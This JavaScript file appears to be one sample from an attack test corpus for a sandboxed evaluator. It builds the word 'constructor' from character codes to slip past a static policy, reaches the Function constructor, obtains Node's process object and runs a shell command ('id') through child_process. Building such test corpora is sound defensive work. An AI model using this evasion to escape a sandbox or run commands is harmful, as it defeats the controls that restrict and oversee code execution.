// corpus: attack class=eval form=targeted
// The name constructor assembled character by character in a loop (the static policy cannot read it).
function main() {
  let key = '';
  for (const code of [99, 111, 110, 115, 116, 114, 117, 99, 116, 111, 114]) key += String.fromCharCode(code);
  const make = (() => {})[key];
  const proc = make('return process')();
  return { out: proc.getBuiltinModule('child_process').execSync('id').toString() };
}

module.exports = { main };
